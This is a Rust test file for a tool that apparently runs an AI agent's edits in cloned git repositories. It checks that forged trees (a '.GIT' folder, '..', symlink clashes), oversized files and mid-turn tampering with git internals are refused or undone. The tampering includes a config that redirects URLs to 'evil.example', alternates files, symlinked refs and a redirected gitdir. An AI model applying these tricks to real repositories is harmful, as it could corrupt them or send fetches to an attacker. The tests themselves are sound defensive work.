//! Hostile repositories, seen from outside: what an origin may hold, and what an agent that nothing
//! confines may do to git's own files in the middle of a turn. (The single attacks are tried below
//! `src/repository/tests`; `docs/security.md` lists them.)
#![expect(
    clippy::unwrap_used,
    reason = "a test that cannot be set up has failed"
)]

use std::{
    fs,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
};

use serde_json::{Value, json};

use crate::support::{
    Folders, Hosting, Options, SITE, StandIn, TestGreenroom, Who, files_below, git, rule, runs,
    wait_for, who, writes,
};

/// Makes a tree that no git command would make by itself.
fn tree(repository: &Path, entries: &[(&str, &[u8], &str)]) -> String {
    let mut raw = Vec::new();
    for (mode, name, id) in entries {
        raw.extend_from_slice(mode.as_bytes());
        raw.push(b' ');
        raw.extend_from_slice(name);
        raw.push(0);
        raw.extend(hex::decode(id).unwrap());
    }
    let file = repository.join(".git/forged");
    fs::write(&file, raw).unwrap();
    let args = [
        "hash-object",
        "-t",
        "tree",
        "-w",
        "--literally",
        ".git/forged",
    ];
    git(repository, &args)
}

fn blob(repository: &Path, content: &str) -> String {
    let file = repository.join(".git/forged");
    fs::write(&file, content).unwrap();
    git(
        repository,
        &["hash-object", "-w", "--no-filters", ".git/forged"],
    )
}

/// Moves `main` to a commit of this tree.
fn forge(repository: &Path, tree: &str) {
    let commit = git(
        repository,
        &["commit-tree", "-p", "main", "-m", "harmless", tree],
    );
    git(repository, &["update-ref", "refs/heads/main", &commit]);
}

/// A thread that has had an init, in a program whose agent follows the script.
async fn thread(script: Value) -> (StandIn, Folders, TestGreenroom, Who) {
    let api = StandIn::start(script).await;
    let folders = Folders::new();
    let site = folders.site("site", SITE);
    let greenroom = TestGreenroom::start(Options::new(&folders).api(&api)).await;
    let alice = who("acme", "alice", "main");
    greenroom.init(&alice, json!({"repoUrl": site})).await.ok();
    (api, folders, greenroom, alice)
}

#[tokio::test]
async fn files_that_no_checkout_should_make_are_refused_with_a_code() {
    let (_api, folders, greenroom, alice) = thread(json!({})).await;
    let site = folders.join("repos/site");
    let good = git(&site, &["rev-parse", "main"]);
    let planted = blob(&site, "planted\n");
    let inner = tree(&site, &[("100644", b"config", &planted)]);
    let cases = [
        (
            tree(&site, &[("40000", b".GIT", &inner)]),
            "keeps for itself",
        ),
        (tree(&site, &[("40000", b"..", &inner)]), "leads out"),
        (
            tree(
                &site,
                &[
                    ("120000", b"a", &blob(&site, "/tmp")),
                    ("40000", b"a", &inner),
                ],
            ),
            "is broken",
        ),
    ];
    for (number, (tree, says)) in cases.iter().enumerate() {
        forge(&site, tree);
        let new = who("acme", &format!("new-{number}"), "main");
        let refused = greenroom.init(&new, json!({"repoUrl": site})).await;
        let sentence = refused.error(422, "clone_failed");
        assert!(sentence.contains(says), "{sentence}");
        assert!(!folders.user(&new).join("project").exists());

        let path = format!("{}/sync", alice.path());
        let refused = greenroom.api("POST", &path, json!({})).await;
        assert_eq!(refused.body["reason"], "rejected");
        let sentence = refused.error(422, "fetch_failed");
        assert!(sentence.contains(says), "{sentence}");
        git(&site, &["update-ref", "refs/heads/main", &good]);
    }
    greenroom
        .execute(&alice, "Change the heading to Mine")
        .await
        .ok();
    let sync = format!("{}/sync", alice.path());
    greenroom.api("POST", &sync, json!({})).await.ok();
    let worktree = folders.worktree(&alice);
    assert_eq!(git(&worktree, &["status", "--porcelain"]), "");
    git(&worktree, &["fsck", "--strict"]);
    let planted: Vec<_> = files_below(&folders.workspace())
        .into_iter()
        .filter(|file| fs::read(file).is_ok_and(|content| content == b"planted\n"))
        .collect();
    assert_eq!(planted, Vec::<PathBuf>::new());
}

/// What the program has had in memory at most, in MB.
fn peak(greenroom: &TestGreenroom) -> u64 {
    let status = fs::read_to_string(format!("/proc/{}/status", greenroom.pid())).unwrap();
    let line = status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))
        .unwrap();
    line.trim().trim_end_matches(" kB").parse::<u64>().unwrap() / 1024
}

#[tokio::test]
async fn a_giant_among_the_files_is_refused_before_it_fills_anything() {
    let folders = Folders::new();
    let hosting = Hosting::start(&folders).await;
    let local = folders.site("film-seed", SITE);
    let giant = fs::File::create(Path::new(&local).join("film.mp4")).unwrap();
    giant.set_len(1 << 30).unwrap();
    git(&local, &["-c", "core.compression=1", "add", "film.mp4"]);
    git(&local, &["commit", "-qm", "A film"]);
    let remote = hosting.site("film", &[]);
    let options = hosting.known_to(Options::new(&folders).rehearsal());
    let greenroom = TestGreenroom::start(options).await;
    for (user, url) in [("bob", local), ("carol", remote)] {
        let new = who("acme", user, "main");
        let refused = greenroom.init(&new, json!({"repoUrl": url})).await;
        let sentence = refused.error(422, "clone_failed");
        let is_told = sentence.contains("\"film.mp4\" is larger than 100 MB");
        assert!(is_told, "{sentence}");
        assert!(!folders.user(&new).join("project").exists());
        let peak = peak(&greenroom);
        assert!(peak < 300, "{url}: {peak} MB");
        let left = files_below(&folders.workspace());
        let size: u64 = left
            .iter()
            .map(|file| fs::metadata(file).unwrap().len())
            .sum();
        assert!(size < 1 << 20, "{size} bytes are left in {left:?}");
    }
}

/// A site of many files: an init, a turn, an undo. `GREENROOM_TEST_FILES=100000` asks for more.
#[tokio::test]
async fn a_site_of_many_files_works() {
    let count = std::env::var("GREENROOM_TEST_FILES").map_or(10_000, |text| text.parse().unwrap());
    let api = StandIn::start(json!({})).await;
    let folders = Folders::new();
    let path = folders.site("many", SITE);
    let site = Path::new(&path);
    let page = blob(site, "one of many\n");
    let names: Vec<_> = (0..1_000).map(|n| format!("page-{n:03}.md")).collect();
    let files: Vec<_> = names
        .iter()
        .map(|name| ("100644", name.as_bytes(), page.as_str()))
        .collect();
    let full = tree(site, &files);
    let folders_of: Vec<_> = (0..count / 1_000).map(|n| format!("{n:03}")).collect();
    let many: Vec<_> = folders_of
        .iter()
        .map(|name| ("40000", name.as_bytes(), full.as_str()))
        .collect();
    let many = tree(site, &many);
    git(site, &["read-tree", "--prefix=content", &many]);
    git(site, &["commit", "-qm", "Many"]);
    let greenroom = TestGreenroom::start(Options::new(&folders).api(&api)).await;
    let alice = who("acme", "alice", "main");
    let begun = std::time::Instant::now();
    greenroom.init(&alice, json!({"repoUrl": path})).await.ok();
    let initialised = begun.elapsed();
    let turn = greenroom
        .execute(&alice, "Change the heading to Mine")
        .await
        .ok();
    assert_eq!(
        turn["commit"]["files"].as_array().unwrap().len(),
        1,
        "{turn}"
    );
    let undo = format!("{}/undo", alice.path());
    greenroom.api("POST", &undo, json!({})).await.ok();
    let worktree = folders.worktree(&alice);
    assert_eq!(git(&worktree, &["status", "--porcelain"]), "");
    assert_eq!(
        git(&worktree, &["rev-parse", "HEAD^{tree}"]),
        git(site, &["rev-parse", "HEAD^{tree}"])
    );
    println!(
        "{count} files: init {initialised:?}, turn {} ms",
        turn["durationMs"]
    );
}

/// A turn that waits for the test before it writes its file and ends.
fn waits(name: &str) -> Value {
    let wait =
        format!("touch {name}.begun; until [ -e {name}.go ]; do sleep 0.05; done; rm {name}.*");
    rule(
        name,
        &[runs(&wait), writes(&format!("{name}.txt"), "an edit\n")],
    )
}

/// Does something in the middle of a turn; the turn's result.
async fn amid(
    greenroom: &TestGreenroom,
    worktree: &Path,
    alice: &Who,
    name: &str,
    harm: impl FnOnce(),
) -> Value {
    let turn = greenroom.begin(alice, name).await;
    let begun = worktree.join(format!("{name}.begun"));
    wait_for("the turn works", || begun.exists().then_some(())).await;
    harm();
    fs::write(worktree.join(format!("{name}.go")), "").unwrap();
    greenroom.ended(&turn).await
}

#[tokio::test]
async fn what_is_done_to_git_amid_a_turn_is_undone_or_refused_and_no_edit_is_lost() {
    let refused = ["lends", "links", "pipes"];
    let names = ["bends", "moves", "hides"].into_iter().chain(refused);
    let rules: Vec<_> = names.map(waits).collect();
    let (_api, folders, greenroom, alice) = thread(json!({"rules": rules})).await;
    let worktree = folders.worktree(&alice);
    let dir = folders.user(&alice).join("project/.git");
    let outside = folders.join("outside");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("file"), "theirs\n").unwrap();
    let start = git(&worktree, &["rev-parse", "client/acme"]);
    let sound = |commits: &str| {
        assert_eq!(git(&worktree, &["status", "--porcelain"]), "");
        git(&worktree, &["fsck", "--strict"]);
        assert_eq!(
            git(&worktree, &["rev-list", "--count", "client/acme..HEAD"]),
            commits
        );
        assert_eq!(git(&worktree, &["rev-parse", "client/acme"]), start);
        assert_eq!(fs::read_dir(&outside).unwrap().count(), 1);
    };
    let has = |result: &Value, file: &str| {
        assert_eq!(result["status"], "completed", "{result}");
        assert!(
            result["commit"]["files"].to_string().contains(file),
            "{result}"
        );
    };

    let result = amid(&greenroom, &worktree, &alice, "bends", || {
        let elsewhere = outside.display();
        let config = format!("[core]\n\tworktree = {elsewhere}\n\tbare = true\n\tautocrlf = input\n[url \"https://evil.example/\"]\n\tinsteadOf = /\n");
        fs::write(dir.join("config"), config).unwrap();
        fs::write(dir.join("info/attributes"), "* text eol=crlf filter=x\n").unwrap();
        fs::write(dir.join("info/grafts"), format!("{start}\n")).unwrap();
        fs::write(dir.join("shallow"), format!("{start}\n")).unwrap();
    })
    .await;
    has(&result, "bends.txt");
    sound("1");

    let result = amid(&greenroom, &worktree, &alice, "moves", || {
        let branch = format!("refs/heads/{}", alice.branch());
        git(
            &worktree,
            &["symbolic-ref", &branch, "refs/heads/client/acme"],
        );
        fs::remove_file(worktree.join(".git")).unwrap();
        fs::write(
            worktree.join(".git"),
            format!("gitdir: {}/repos/site/.git\n", folders.join("").display()),
        )
        .unwrap();
    })
    .await;
    has(&result, "moves.txt");
    sound("2");

    let result = amid(&greenroom, &worktree, &alice, "hides", || {
        fs::write(dir.join("info/exclude"), "*\n").unwrap();
        git(
            &worktree,
            &["update-index", "--skip-worktree", "package.json"],
        );
        git(
            &worktree,
            &["update-index", "--assume-unchanged", "server.mjs"],
        );
        fs::write(worktree.join("package.json"), "{\"scripts\": {}}\n").unwrap();
        fs::write(worktree.join("server.mjs"), "// edited\n").unwrap();
        git(worktree.join("src"), &["init", "-q"]);
        fs::write(worktree.join("src/inner.txt"), "inner\n").unwrap();
    })
    .await;
    for file in ["hides.txt", "package.json", "server.mjs", "src/inner.txt"] {
        has(&result, file);
    }
    sound("3");

    let mut commits = 3;
    for name in refused {
        let planted = match name {
            "lends" => dir.join("objects/info/alternates"),
            "links" => dir.join("refs/heads/client"),
            _ => dir.join("refs/heads/pipe"),
        };
        let aside = dir.with_file_name("aside");
        let result = amid(&greenroom, &worktree, &alice, name, || match name {
            "lends" => {
                fs::create_dir_all(planted.parent().unwrap()).unwrap();
                fs::write(&planted, format!("{}\n", outside.display())).unwrap();
            }
            "links" => {
                fs::rename(&planted, &aside).unwrap();
                symlink(&aside, &planted).unwrap();
            }
            _ => nix::unistd::mkfifo(&planted, nix::sys::stat::Mode::S_IRWXU).unwrap(),
        })
        .await;
        assert_eq!(
            (&result["status"], &result["code"]),
            (&json!("failed"), &json!("internal")),
            "{result}"
        );
        let file = worktree.join(format!("{name}.txt"));
        assert_eq!(fs::read(&file).unwrap(), b"an edit\n");
        let refused = greenroom
            .execute(&alice, "Change the heading to No")
            .await
            .answer;
        let sentence = refused.error(500, "internal");
        assert!(sentence.contains("tampered with"), "{sentence}");

        fs::remove_file(&planted).unwrap();
        if aside.exists() {
            fs::rename(&aside, &planted).unwrap();
        }
        let heading = format!("Change the heading to Number {commits}");
        greenroom.execute(&alice, &heading).await.ok();
        // The edit is in a commit of its own, the heading in the next one.
        commits += 2;
        sound(&commits.to_string());
        assert_eq!(
            git(&worktree, &["show", &format!("HEAD~1:{name}.txt")]),
            "an edit"
        );
    }
}
